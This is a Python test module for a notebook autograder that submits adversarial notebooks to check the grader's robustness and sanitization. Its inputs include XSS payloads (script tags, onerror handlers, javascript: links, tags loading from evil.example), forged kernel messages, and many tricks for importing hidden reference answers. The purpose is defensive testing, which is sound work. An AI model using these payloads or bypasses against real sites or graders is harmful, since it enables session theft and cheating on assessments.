"""One class of everything that can be handed in: odd files, odd names, odd kernels, fetched answers.

Each student answers the same parts right and does one odd thing. Everybody gets a row, the honest get
what they get in a class of their own, nobody earns what was fetched, and no page acts in a browser.
"""

import contextlib
import csv
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from autograder import __main__ as command_line
from autograder.batch import classroom
from autograder.batch.settings import Settings
from autograder.files import write_whole
from autograder.kernels import sandbox
from autograder.notebook.sanitize import ACTING_FORMULA
from tests.sample_class import (
    ASSIGNMENT,
    ISOLATION,
    ROOT,
    SUBMISSIONS,
    answers_in,
    filled_in,
    grade,
    hand_in,
    new_course,
    place_for,
    same_inputs,
    submission,
)
from tests.sample_class.small import command

pytestmark = [
    pytest.mark.xdist_group("odd submissions"),
    pytest.mark.skipif(bool(sandbox.missing()), reason=sandbox.missing()),
]

ALL, FIRST_TWO = 10, 5
PARTS = "attention_weights", "basic_self_attention", "self_attention", "is_permutation_equivariant"
HONEST = ("right_loops", "scaled_scores", "mixed_batch")
RIGHT = answers_in(SUBMISSIONS / "right_matrices.py")
LONGEST_STALL = 60  # seconds between one student and the next


# ------------------------------------------------------------------------------ odd notebooks


def whole(**fields):
    """The right notebook's JSON, with other fields of its own."""
    return {**json.loads(nbformat.writes(filled_in(RIGHT))), **fields}


def each_cell(change):
    """The right notebook's JSON after each of its cells was changed."""
    made = whole()
    for number, cell in enumerate(made["cells"]):
        change(cell, number)
    return made


def marked(**fields):
    """The right notebook with other metadata of nbgrader's in each cell that has some."""

    def change(cell, _):
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"].update(fields)

    return each_cell(change)


def with_cell(*sources, before="check_self_attention", kind=new_code_cell):
    """The right notebook with cells of the student's own before one of its own."""
    notebook = filled_in(RIGHT)
    names = [cell.metadata.get("nbgrader", {}).get("grade_id") for cell in notebook.cells]
    place = names.index(before)
    notebook.cells[place:place] = [
        kind(source, id=f"odd-{number}") for number, source in enumerate(sources)
    ]
    return notebook


def with_answer(part, code):
    """The right notebook but for one part."""
    return filled_in({**RIGHT, part: code})


def source_as(form):
    def change(cell, _):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == PARTS[0]:
            cell["source"] = form

    return each_cell(change)


LONG_SUM = "text = " + " + ".join(["'a'"] * 5_000)
A_WEIGHTS = RIGHT[PARTS[0]]
MANY_NAMES = "\n".join(f"name_{number} = {number}" for number in range(10_000))
ONE_STATEMENT = ", ".join(f"n{number}" for number in range(10_000)) + " = range(10_000)"

# name -> (what is handed in, points; None where how far it gets is up to chance)
NOTEBOOKS = {
    **{
        f"minor_{number}": (whole(nbformat_minor=minor), ALL)
        for number, minor in enumerate([None, 1.5, "", 1e300, -1])
    },
    **{
        f"format_{number}": (whole(nbformat=version), ALL)
        for number, version in enumerate([1, True, "4", 5, 10**400])
    },
    "cells_null": (whole(cells=None), 0),
    "cells_dict": (whole(cells={"0": {}}), 0),
    "cells_ten_thousand": (whole(cells=[{"cell_type": "code", "source": "1"}] * 10_000), 0),
    "cells_of_everything": (
        whole(cells=[None, 1, "x", [], {}, {"cell_type": []}, *whole()["cells"]]),
        ALL,
    ),
    # without nbgrader's marks the cells that decide are put at the end, where the answers stand
    "no_metadata": (each_cell(lambda cell, _: cell.pop("metadata")), ALL),
    "metadata_null": (each_cell(lambda cell, _: cell.update(metadata=None)), ALL),
    "marks_null": (each_cell(lambda cell, _: cell["metadata"].update(nbgrader=None)), ALL),
    "marks_a_list": (each_cell(lambda cell, _: cell["metadata"].update(nbgrader=["x"])), ALL),
    "points_a_word": (marked(points="many"), ALL),
    "names_a_list": (marked(grade_id=["x"]), ALL),
    "ids_a_list": (each_cell(lambda cell, _: cell.update(id=["x"])), ALL),
    # what makes an id free must not be taken for ever
    "ids_that_meet": (
        each_cell(lambda cell, number: cell.update(id="a" * 50 + f"-{number}" * (number % 2))),
        ALL,
    ),
    "ids_of_others": (
        each_cell(lambda cell, number: cell.update(id=f"check_{PARTS[number % 4]}")),
        ALL,
    ),
    "ids_alike": (each_cell(lambda cell, _: cell.update(id="x")), ALL),
    "grade_ids_alike": (marked(grade_id=PARTS[0]), None),
    "source_null": (source_as(None), None),
    "source_a_number": (source_as(5), None),
    "source_a_list": (source_as([*A_WEIGHTS.splitlines(keepends=True), 5, None]), ALL),
    "byte_order_mark": (b"\xef\xbb\xbf" + json.dumps(whole()).encode(), ALL),
    "utf_16": (json.dumps(whole()).encode("utf-16"), ALL),
    "utf_16_without_a_mark": (json.dumps(whole()).encode("utf-16-le"), 0),
    "half_characters": (
        each_cell(lambda cell, _: cell.update(source=[*cell["source"], "\n# \ud800\udc00\ud800"])),
        ALL,
    ),
    "half_characters_in_names": (
        whole(metadata={"\ud800": "\ud800"}, **{"\ud800": ["\ud800"]}),
        ALL,
    ),
    "old_format": ({"nbformat": 3, "worksheets": [{"cells": [None, 5, {"cell_type": []}]}]}, 0),
    "four_hundred_texts": (with_cell("text = " + " + ".join(["'a'"] * 400)), ALL),
    "five_thousand_texts": (with_cell(LONG_SUM), ALL),
    "sum_in_an_answer": (
        with_answer(PARTS[0], A_WEIGHTS + "\n    return " + " + ".join(["'a'"] * 5_000)),
        7,  # more than Python itself compiles
    ),
    "parentheses": (with_cell("(" * 5_000 + "1" + ")" * 5_000), ALL),
    "minus_signs": (with_cell("x = " + "-" * 50_000 + "1"), ALL),
    "brackets": (with_cell("[" * 100_000), ALL),
    "lambdas": (with_cell("lambda: " * 20_000 + "1"), ALL),
    "deep_attribute": (with_cell("torch" + ".x" * 20_000), ALL),
    "pictures": (with_cell("![a](" * 200_000, kind=new_markdown_cell), ALL),
    "quotations": (with_cell(">" * 90_000, "> " * 45_000, kind=new_markdown_cell), ALL),
    "emphasis": (
        with_cell(*["*a_ " * 450] * 300, kind=new_markdown_cell),
        ALL,
    ),
    "colours": (with_cell("print('\\x1b[31mx' * 900_000)"), ALL),
    "one_colour": (with_cell("print('\\x1b[' + '1;' * 2_000_000 + 'mx')"), ALL),
    "tags": (
        with_cell(
            "from IPython.display import HTML\n"
            "for tag in ('<b>', '<a><b>', '<table><b>', '<p><i>', '<svg><p>'):\n"
            "    for _ in range(10): display(HTML(tag * (99_000 // len(tag))))"
        ),
        ALL,
    ),
    "names_one_by_one": (with_cell(MANY_NAMES), ALL),
    "names_at_once": (with_cell(ONE_STATEMENT), ALL),
    "long_line": (with_cell("x = '" + "a" * 5_000_000 + "'"), ALL),
    "long_answer": (
        with_answer(PARTS[0], "def attention_weights(x):\n    return 'x' * 9_000_000"),
        None,
    ),
    "long_message": (
        with_answer(PARTS[0], "def attention_weights(x):\n    raise ValueError('x' * 9_000_000)"),
        None,
    ),
    "long_class_name": (
        with_answer(
            PARTS[0],
            "def attention_weights(x):\n    raise type('E' * 9_000_000, (Exception,), {})('x')",
        ),
        None,
    ),
    "own_grade_of_own": (
        with_cell(f"from autograder.cell import grade\n\ngrade('{ASSIGNMENT}', '{PARTS[3]}')"),
        ALL,
    ),
    "own_grade_of_another": (
        with_cell("from autograder.cell import grade\n\ngrade('a99_nothing', 'x')"),
        ALL,
    ),
    "own_grade_of_no_part": (
        with_cell(f"from autograder.cell import grade\n\ngrade('{ASSIGNMENT}', 'x')"),
        ALL,
    ),
}


def with_test_that_ends_in_a_number():
    notebook = filled_in(RIGHT)
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if name.startswith("test_"):
            cell.source += "\n1000"
    return notebook


NOTEBOOKS["test_that_ends_in_a_number"] = (with_test_that_ends_in_a_number(), ALL)

# ------------------------------------------------------------------------------ odd folders


def deep(folder, depth):
    """Folders in folders, deeper than a path may be long."""
    here = os.getcwd()
    os.chdir(folder)
    try:
        for _ in range(depth):
            os.mkdir("deeper")
            os.chdir("deeper")
    finally:
        os.chdir(here)


def many(folder, number=36_000):
    for name in range(number):
        (folder / f"{name:05}.dat").write_bytes(b"1")


def large(folder):
    with (folder / "large.bin").open("wb") as file:
        file.truncate(200 << 20)


def colliding(folder):
    """Names that meet, or grow too long, when they get a suffix."""
    (folder / "a").write_text("a")
    (folder / "a.txt").mkdir()
    (folder / "a.txt/b.txt").write_text("b")
    (folder / f"{ASSIGNMENT}.ipynb.txt").mkdir()
    (folder / ("🐢" * 63)).write_text("252 bytes")
    (folder / ("x" * 255)).write_text("255 bytes")
    (folder / os.fsdecode(b"half \xff.txt")).write_text("half")
    (folder / os.fsdecode(b"halves \xff")).mkdir()
    (folder / os.fsdecode(b"halves \xff/x.txt")).write_text("half")
    (folder / "line\nend.txt").write_text("x")


def pages(folder):
    for suffix in ("html", "svg", "xml", "js", "pdf", "HTM", "xhtml", "mht", "ipynb", "md", "css"):
        (folder / f"page.{suffix}").write_text("<script>steal()</script>")
    (folder / "html").write_text("<script>steal()</script>")
    (folder / "page.png").write_text("<script>steal()</script>")


def timestamp(content):
    def put(folder):
        (folder / "timestamp.txt").write_bytes(content)

    return put


def linked_notebook(folder):
    path = folder / f"{ASSIGNMENT}.ipynb"
    path.rename(folder / "real.ipynb")
    path.symlink_to("real.ipynb")


def no_notebook(make):
    def change(folder):
        path = folder / f"{ASSIGNMENT}.ipynb"
        path.unlink()
        make(path)

    return change


# name -> (what is done to the folder of a right answer, points)
FOLDERS = {
    "time_no_time": (timestamp(b"yesterday"), ALL),
    "time_binary": (timestamp(bytes(range(256))), ALL),
    "time_huge": (timestamp(b"2" * (1 << 22)), ALL),
    "time_far": (timestamp(b"999999999-13-99 99:99:99 +99:99"), ALL),
    "time_a_folder": (lambda folder: (folder / "timestamp.txt").mkdir(), ALL),
    "time_a_pipe": (lambda folder: os.mkfifo(folder / "timestamp.txt"), ALL),
    "time_a_link": (lambda folder: (folder / "timestamp.txt").symlink_to("/dev/zero"), ALL),
    "time_a_loop": (lambda folder: (folder / "timestamp.txt").symlink_to("timestamp.txt"), ALL),
    "deep_500": (lambda folder: deep(folder, 500), ALL),
    "deep_1200": (lambda folder: deep(folder, 1200), ALL),
    "many_files": (many, ALL),
    "large_file": (large, ALL),
    "colliding": (colliding, ALL),
    "pages": (pages, ALL),
    "notebook_a_link": (linked_notebook, 0),
    "notebook_a_loop": (no_notebook(lambda path: path.symlink_to(path.name)), 0),
    "notebook_a_pipe": (no_notebook(os.mkfifo), 0),
    "notebook_a_folder": (no_notebook(Path.mkdir), 0),
    "notebook_gone": (no_notebook(lambda path: None), 0),
}
if os.geteuid() == 0:
    FOLDERS["notebook_a_device"] = (
        no_notebook(lambda path: os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 5))),
        0,
    )

# whole folders that are links, or none
LINKS = ("linked_student", "linked_assignment", "link_to_nothing", "assignment_a_file")

NAMES = (
    "[1]", "[ ]", "*", "?", "-x", "--help", "=1+1", "＝1+1", "@x", "+1", "\tx", "a\nb", "a\r\nb",
    "x\ny\n", " x ", "\u202eevil", "n" * 200, "...", "..x", "{student}", "%(x)s", "(?P<x>", "a+b.c",
    "a\\b", "$HOME", "'; drop table grade; --", "<script>steal()</script>".replace("/", ""),
)  # fmt: skip
# no gradebook can hold these
HALF_NAMES = tuple(map(os.fsdecode, (b"\xff\xfe", b"half \xff")))

# ------------------------------------------------------------------------------ odd kernels

SEND = """
import os, socket, struct, json
def frame(header, body=b''):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack('>II', len(text), len(body)) + text + body
for name in os.listdir('/proc/self/fd'):
    try:
        end = socket.socket(fileno=os.dup(int(name)))
        peer, = struct.unpack('iii', end.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[:1]
    except OSError:
        continue
    if peer == os.getpid():
        continue
    {what}
    end.detach()
"""
BY_GC = """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == 'Channel':
        {what}
"""


def outputs_of(*contents):
    """Code that sends output messages as they are, by the kernel's own way out."""
    return "session = get_ipython().kernel.session\n" + "\n".join(
        f"session.send(None, {kind!r}, {content})" for kind, content in contents
    )


# name -> (code before the third check, points)
KERNELS = {
    "shared_memory": (
        (
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "found = [libc.shmget(0x1234, 1 << 20, 0o1666), libc.msgget(0x1234, 0o1666),\n"
            "         libc.semget(0x1234, 1, 0o1666)]\n"
            "print('got', found)"
        ),
        ALL,
    ),
    "large_messages": (
        BY_GC.format(what="for _ in range(60): thing.send({'type': 'x'}, bytes(60 << 20))"),
        ALL,
    ),
    "large_headers": (
        SEND.format(what="for _ in range(20): end.sendall(frame(b'[' * (15 << 20)))"),
        FIRST_TWO,
    ),
    "many_small_things": (
        SEND.format(what="end.sendall(frame(b'{\"x\":[' + b'[],' * (5 << 20) + b'1]}'))"),
        ALL,
    ),
    "fake_done": (SEND.format(what="end.sendall(frame({'type': 'done', 'count': -5}))"), ALL),
    "fake_answers": (SEND.format(what="end.sendall(frame({'type': 'answers'}, b'probe1x'))"), None),
    "fake_answers_by_gc": (
        BY_GC.format(what="thing.send({'type': 'answers'}, b'probe1' + b'\\x93' * 900)"),
        None,
    ),
    "junk_lengths": (SEND.format(what="end.sendall(b'\\xff' * 64)"), FIRST_TWO),
    "junk_types": (
        SEND.format(
            what="for kind in (None, 5, [], {}, 'stream', 'error', 'done'):\n"
            "        for content in (None, 5, [], {}): "
            "end.sendall(frame({'type': kind, 'content': content}))"
        ),
        None,
    ),
    "closed_channel": (SEND.format(what="end.shutdown(2)"), FIRST_TWO),
    "display_ids": (
        outputs_of(
            *(
                ("display_data", {"data": {"text/plain": "x"}, "transient": transient})
                for transient in ({"display_id": []}, {"display_id": {}}, [], 5, {"display_id": 5})
            ),
            ("update_display_data", {"data": {"text/plain": "x"}, "transient": {"display_id": []}}),
        ),
        ALL,
    ),
    "counts": (
        outputs_of(
            *(
                ("execute_result", {"data": {"text/plain": "x"}, "execution_count": count})
                for count in (-5, 1.5, "x", True, 10**300, [])
            )
        ),
        ALL,
    ),
    "tracebacks": (
        outputs_of(
            ("error", {"traceback": 5}),
            ("error", {"ename": 5, "evalue": [], "traceback": [5]}),
            ("error", {"ename": "E", "evalue": "", "traceback": {"a": 1}}),
            ("stream", {"name": ["stdout"], "text": "x"}),
            ("stream", {"name": "stdout", "text": ["x"]}),
            ("display_data", {"data": [], "metadata": 5}),
            ("display_data", {"data": {"": "x", "\0": "x", "text/html": 5}}),
            ("clear_output", {"wait": []}),
        ),
        ALL,
    ),
    "deep_content": (
        "deep = []\nfor _ in range(900): deep = [deep]\n"
        + outputs_of(("stream", "{'name': 'stdout', 'text': 'x', 'more': deep}")),
        ALL,
    ),
    "signal": ("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\nos.abort()", FIRST_TWO),
    "blocked_signals": (
        (
            "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n"
            "time.sleep(1000)"
        ),
        FIRST_TWO,
    ),
    "new_recursion_limit": (
        "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()",
        FIRST_TWO,
    ),
    "tight_recursion_limit": ("import sys\nsys.setrecursionlimit(60)", None),
}

# answers to the third part that end, stop or fool the kernel: what was earned before stays
ANSWERS = {
    "dies_in_a_probe": "import os\ndef self_attention(query, key, value):\n    os._exit(3)",
    "loops_in_c": "def self_attention(query, key, value):\n    return sum(range(10**13))",
    "exits": "def self_attention(query, key, value):\n    raise SystemExit",
    "interrupts": "def self_attention(query, key, value):\n    raise KeyboardInterrupt",
    "generator_exit": "def self_attention(query, key, value):\n    raise GeneratorExit",
    "odd_message": (
        "class Odd(Exception):\n    def __str__(self): raise Odd\n"
        "def self_attention(query, key, value):\n    raise Odd"
    ),
    "odd_class": (
        "class Meta(type):\n    __name__ = property(lambda self: 5)\n"
        "class Odd(Exception, metaclass=Meta): pass\n"
        "def self_attention(query, key, value):\n    raise Odd"
    ),
    "endless_value": (
        "def self_attention(query, key, value):\n    a = []\n    a.append(a)\n    return a"
    ),
    "huge_value": "import torch\ndef self_attention(query, key, value):\n"
    "    return torch.zeros(1).expand(1 << 40)",
    "empty_value": "import torch\ndef self_attention(query, key, value):\n"
    "    return torch.zeros(0, 5, 1 << 40)",
}

# ------------------------------------------------------------------------------ fetched answers

WEIGHTS = "def attention_weights(x):\n    {how}"
BATCH = "def self_attention(query, key, value):\n    {how}"
NAMED = "'scaled_dot' + '_product_attention'"
# way -> (part, code); each earns nothing in that part, and everything in the others
FETCHED = {
    "import": (PARTS[0], WEIGHTS.format(how="import course_utils.attention as a; return a.attention_weights(x)")),
    "from_import": (PARTS[0], "from course_utils.attention import attention_weights"),
    "importlib": (PARTS[0], WEIGHTS.format(how="import importlib; return importlib.import_module('course_utils.attention').attention_weights(x)")),
    "dunder_import": (PARTS[0], WEIGHTS.format(how="return __import__('course_utils.attention').attention.attention_weights(x)")),
    "modules": (PARTS[0], WEIGHTS.format(how="import sys; return sys.modules['course_utils.attention'].attention_weights(x)")),
    "joined": (PARTS[0], WEIGHTS.format(how="import importlib; return importlib.import_module('course' + '_utils.' + 'attention').attention_weights(x)")),
    "reversed": (PARTS[0], WEIGHTS.format(how="import importlib; return importlib.import_module('noitnetta.slitu_esruoc'[::-1]).attention_weights(x)")),
    "characters": (PARTS[0], WEIGHTS.format(how="import importlib; return importlib.import_module(bytes([99, 111, 117, 114, 115, 101, 95, 117, 116, 105, 108, 115]).decode() + '.attention').attention_weights(x)")),
    "signoff_globals": (PARTS[0], "from course_utils.signoff import signoff\n" + WEIGHTS.format(how="return signoff.__globals__['__builtins__']['__import__']('course_utils.attention').attention.attention_weights(x)")),
    "builtins": (PARTS[0], WEIGHTS.format(how="import builtins; return vars(builtins)['__imp' + 'ort__']('cour' + 'se_utils.attention').attention.attention_weights(x)")),
    "globals": (PARTS[0], "globals().update(attention_weights=__import__('importlib').import_module('course_' + 'utils.attention').attention_weights)"),
    "capture": (PARTS[0], "%%capture\nfrom course_utils.attention import attention_weights"),
    "timeit": (PARTS[0], "%%timeit -n1 -r1\nglobal attention_weights\nfrom course_utils.attention import attention_weights"),
    "run": (PARTS[0], "%run helper.py"),
    "exec": (PARTS[0], "exec(open('helper.py').read())"),
    "own_helper": (PARTS[0], "from helper import attention_weights"),
    "subclasses": (PARTS[0], WEIGHTS.format(how="kinds = [k for k in object.__subclasses__() if k.__name__ == 'BuiltinImporter']; return kinds[0].load_module('course_utils.attention').attention_weights(x)")),
    "frames": (PARTS[0], (
        "import sys\ndef attention_weights(x):\n    frame = sys._getframe()\n    while frame:\n"
        "        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:\n"
        "            other = getattr(value, 'reference', None) or getattr(value, 'attention_weights', None)\n"
        "            if callable(other) and other is not attention_weights:\n                return other(x)\n"
        "        frame = frame.f_back"
    )),
    "garbage": (PARTS[0], (
        "import gc\ndef attention_weights(x):\n    for thing in gc.get_objects():\n"
        "        if getattr(thing, '__name__', '') == 'attention_weights' and thing is not attention_weights:\n"
        "            return thing(x)"
    )),
    "files": (PARTS[0], (
        "import autograder, pathlib\ndef attention_weights(x):\n    space = {}\n"
        "    for path in pathlib.Path(autograder.__path__[0]).parent.rglob('attention.py'):\n"
        "        if 'utils' in str(path): exec(path.read_text(), space)\n    return space['attention_weights'](x)"
    )),
    "bytecode": (PARTS[0], (
        "import glob, marshal, sys\ndef attention_weights(x):\n    space = {}\n    for base in sys.path:\n"
        "        for path in glob.glob(base + '/*/__pycache__/attention.*.pyc'):\n"
        "            exec(marshal.loads(open(path, 'rb').read()[16:]), space)\n    return space['attention_weights'](x)"
    )),
    "library": (PARTS[2], BATCH.format(how="return torch.nn.functional.scaled_dot_product_attention(query, key, value, scale=1.0)")),
    "math_door": (PARTS[2], BATCH.format(how="return torch._scaled_dot_product_attention_math(query, key, value, scale=1.0)[0]")),
    "native_door": (PARTS[2], BATCH.format(how="return torch._C._nn.scaled_dot_product_attention(query, key, value, scale=1.0)")),
    "operator_door": (PARTS[2], BATCH.format(how="return torch.ops.aten.scaled_dot_product_attention(query, key, value, scale=1.0)")),
    "dict_door": (PARTS[2], BATCH.format(how=f"return torch.nn.functional.__dict__[{NAMED}](query, key, value, scale=1.0)")),
    "vars_door": (PARTS[2], BATCH.format(how="return vars(torch.nn.functional)['noitnetta_tcudorp_tod_delacs'[::-1]](query, key, value, scale=1.0)")),
    "getattr_door": (PARTS[2], BATCH.format(how="return getattr(torch.nn.functional, '_'.join(['scaled', 'dot', 'product', 'attention']))(query, key, value, scale=1.0)")),
    "search_door": (PARTS[2], BATCH.format(how="return next(v for k, v in vars(torch.nn.functional).items() if k.startswith('scaled_dot'))(query, key, value, scale=1.0)")),
    "math_by_name": (PARTS[2], BATCH.format(how="return getattr(torch, '_scaled_dot_' + 'product_attention' + '_math')(query, key, value, scale=1.0)[0]")),
    "math_by_search": (PARTS[2], BATCH.format(how="return getattr(torch, [k for k in dir(torch) if k.endswith('attention_math')][0])(query, key, value, scale=1.0)[0]")),
    "operator_by_name": (PARTS[2], BATCH.format(how="return getattr(torch.ops.aten, 'scaled_dot' + '_product_' + 'attention')(query, key, value, scale=1.0)")),
    "operator_by_search": (PARTS[2], BATCH.format(how="return getattr(torch.ops.aten, 'scaled_dot#product_attention'.replace('#', '_'))(query, key, value, scale=1.0)")),
    "flex": (PARTS[2], BATCH.format(how="from torch.nn.attention.flex_attention import flex_attention; return flex_attention(query[:, None], key[:, None], value[:, None], scale=1.0)[:, 0]")),
    "walrus": (PARTS[2], "import torch.nn.functional as F\nif (helper := F.scaled_dot_product_attention): pass\n" + BATCH.format(how="return helper(query, key, value, scale=1.0)")),
    "while_walrus": (PARTS[2], "import torch.nn.functional as F\nwhile not (helper := F.scaled_dot_product_attention): pass\n" + BATCH.format(how="return helper(query, key, value, scale=1.0)")),
    "match": (PARTS[2], "import torch.nn.functional as F\nmatch F.scaled_dot_product_attention:\n    case helper: pass\n" + BATCH.format(how="return helper(query, key, value, scale=1.0)")),
    "multihead": (PARTS[2], (
        "from torch import nn\n" + BATCH.format(how=(
            "D = query.shape[-1]\n    layer = nn.MultiheadAttention(D, 1, batch_first=True)\n"
            "    return layer(query * D**0.5, key, value)[0]"
        ))
    )),
    "forward_door": (PARTS[2], BATCH.format(how="return torch.nn.functional.multi_head_attention_forward(query, key, value)[0]")),
    "native_multihead": (PARTS[2], BATCH.format(how="return torch._native_multi_head_attention(query, key, value)[0]")),
}  # fmt: skip
LIBRARY = [way for way, (part, _) in FETCHED.items() if part == PARTS[2]]
HELPER = "from course_utils.attention import attention_weights\n"
# the first part is wrong, so that ours stands in for it when the second is decided: the second part
# looks at what it is given, and shows it
STAND_IN = {
    PARTS[0]: "def attention_weights(x):\n    return x",
    PARTS[1]: (
        "import inspect, gc\nseen = []\ndef basic_self_attention(x):\n"
        "    one = globals()['attention_weights']\n"
        "    try: seen.append(inspect.getsource(one))\n    except Exception as error: seen.append(repr(error))\n"
        "    if one.__globals__ is not globals(): seen.extend(map(str, one.__globals__))\n"
        "    weights = one(x)\n    return weights @ x, weights"
    ),
    PARTS[2]: "print('SEEN', seen)\n" + BATCH.format(how="return attention_weights(query) @ value"),
}

# ------------------------------------------------------------------------------ what acts in a page

LINKS_THAT_ACT = (
    "javascript:steal()", "JaVaScRiPt:steal()", " javascript:steal()", "java\tscript:steal()",
    "java\nscript:steal()", "&#106;avascript:steal()", "&#x6A;avascript:steal()", "\x01javascript:steal()",
    "javascript&colon;steal()", "vbscript:steal()", "data:text/html,<script>steal()</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "//evil.example/x", "/logout", "\\\\evil.example", "blob:x",
)  # fmt: skip
FORMULAS = (
    r"\href{javascript:steal()}{x}", r"\&#104;ref{javascript:steal()}{x}",
    r"\<!-- -->href{javascript:steal()}{x}", r"\HREF{javascript:steal()}{x}",
    r"\class{x}{y}", r"\style{position:fixed}{x}", r"\require{html}\cssId{a}{b}", r"\unicode{x}",
    r"\def\x{\y}\x", r"\bbox[red]{x}", r"\csname hr\endcsname",
)  # fmt: skip
HTML_THAT_ACTS = (
    "<script>steal()</script>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=steal()>", "<img src=https://evil.example/x.png>", "<svg onload=steal()>",
    "<svg><script>steal()</script></svg>", "<svg><a xlink:href='javascript:steal()'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=a><button>x</button></form>", "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>", "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>", "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<video src=x onerror=steal()>", "<a href=x onclick=steal()>x</a>", "<details open ontoggle=steal()>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>", "<textarea><img title='</textarea><img src=x onerror=steal()>'>",
    "<!--><script>steal()</script>-->", "<![CDATA[<script>steal()</script>]]>", "</div></div></body><script>steal()</script>",
    "<img src='data:image/svg+xml,<svg onload=steal()>'>", "<img srcset='//evil.example/x 1x'>",
    "<table background=//evil.example><tr><td>x</table>", "<p class=MathJax_Process>x</p>", "<select><style></select><script>steal()</script>",
    *(f'<a href="{link}">x</a>' for link in LINKS_THAT_ACT),
    *(f"<p>${formula}$ \\({formula}\\) $${formula}$$</p>" for formula in FORMULAS),
)  # fmt: skip
MARKDOWN_THAT_ACTS = (
    *HTML_THAT_ACTS,
    r"![a\](attachment:x) b](/logout)", "![x](/logout)", "![x](https://evil.example/x.png)", "[x]: javascript:steal()\n\n[x]",
    "<javascript:steal()>", "`` ` ``<script>steal()</script>`", "    <b>\n<script>steal()</script>",
    "[x](<javascript:steal()>)", "[x](javascript:steal() 'a\"onmouseover=\"steal()')", "![x](attachment:x\"onerror=\"steal())",
    "$x$<script>steal()</script>$y$", "$$<img src=x onerror=steal()>$$", "\\begin{equation}<script>steal()</script>\\end{equation}",
    "# <img src=x onerror=steal()>", "|a|\n|-|\n|<script>steal()</script>|", "![x](data:image/svg+xml;base64,AAAA)",
    *(f"[x]({link})" for link in LINKS_THAT_ACT if "\n" not in link),
    *(f"${formula}$\n\n$${formula}$$\n\n\\begin{{align}}{formula}\\end{{align}}" for formula in FORMULAS),
)  # fmt: skip
PICTURES_THAT_ACT = {
    "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='steal()'><script>steal()</script></svg>",
    "image/png": 'x" onerror="steal()',
    "image/jpeg": "x'><script>steal()</script>",
    "image/gif": "x",
    "application/javascript": "steal()",
    "application/pdf": "x",
    "text/markdown": "<script>steal()</script>",
    "text/latex": r"$\href{javascript:steal()}{x}$ <script>steal()</script>",
    "application/vnd.jupyter.widget-view+json": '{"model_id": "x"}',
    "application/vnd.jupyter.widget-state+json": "{}",
    "application/geo+json": "{}",
    "text/x-unknown": "<script>steal()</script>",
}


def attacker():
    """A right submission with everything that could act, in Markdown, raw cells and outputs."""
    notebook = filled_in(RIGHT)
    code = "from IPython.display import display\n"
    code += f"for html in {HTML_THAT_ACTS!r}: display({{'text/html': html, 'text/plain': html}}, raw=True)\n"
    code += f"for kind, data in {PICTURES_THAT_ACT!r}.items(): display({{kind: data}}, raw=True, metadata={{kind: {{'width': '1 onerror=steal()'}}}})\n"
    code += f"for html in {HTML_THAT_ACTS!r}: print(html)\n"
    code += (
        "raise type('<script>steal()</script>', (Exception,), {})('<img src=x onerror=steal()>')"
    )
    markdown = [new_markdown_cell(text) for text in MARKDOWN_THAT_ACTS]
    markdown[0]["attachments"] = {
        "x": {'image/png" onerror="steal()': "AAAA"},
        'x"onerror="steal()': {"image/png": "AAAA"},
    }
    notebook.cells += [
        *markdown,
        *(new_raw_cell(text) for text in HTML_THAT_ACTS),
        new_code_cell(code),
        new_code_cell("<script>steal()</script>"),
    ]
    notebook.metadata.title = "</title><script>steal()</script>"
    return notebook


TELLS = "raise type({name!r}, (Exception,), {{}})({message!r})"
# what a verdict quotes: the message, the name and the line of an error, and the names of what is there
QUOTED = {
    PARTS[0]: WEIGHTS.format(how=TELLS.format(name="E", message="<script>steal()</script> `x`")),
    PARTS[1]: "def basic_self_attention(x):\n    "
    + TELLS.format(name="<img src=x onerror=steal()>", message=f"${FORMULAS[0]}$"),
    PARTS[2]: BATCH.format(how=f"return type('<script>steal()</script> ${FORMULAS[0]}$', (), {{}})()"),
}  # fmt: skip


# ------------------------------------------------------------------------------ the class


def hand_in_everything(course):
    notebooks = {name: made for name, (made, _) in NOTEBOOKS.items()}
    notebooks |= {name: filled_in(RIGHT) for name in (*FOLDERS, *NAMES, *HALF_NAMES)}
    notebooks |= {name: with_cell(code) for name, (code, _) in KERNELS.items()}
    notebooks |= {name: with_answer(PARTS[2], code) for name, code in ANSWERS.items()}
    notebooks |= {f"fetch_{way}": with_answer(*answer) for way, answer in FETCHED.items()}
    notebooks["stand_in"] = filled_in({**RIGHT, **STAND_IN})
    notebooks["attacker"] = attacker()
    notebooks["quoted"] = filled_in({**RIGHT, **QUOTED})
    notebooks |= {name: submission(name) for name in HONEST}
    new_course(course)
    for student, notebook in notebooks.items():
        place = place_for(course, student)
        if isinstance(notebook, bytes):
            place.write_bytes(notebook)
        elif isinstance(notebook, nbformat.NotebookNode):
            place.write_text(nbformat.v4.writes_json(notebook), encoding="utf-8")
        else:
            place.write_text(json.dumps(notebook), encoding="utf-8")
    for student, (change, _) in FOLDERS.items():
        change(course / "submitted" / student / ASSIGNMENT)
    for way in ("run", "exec", "own_helper"):
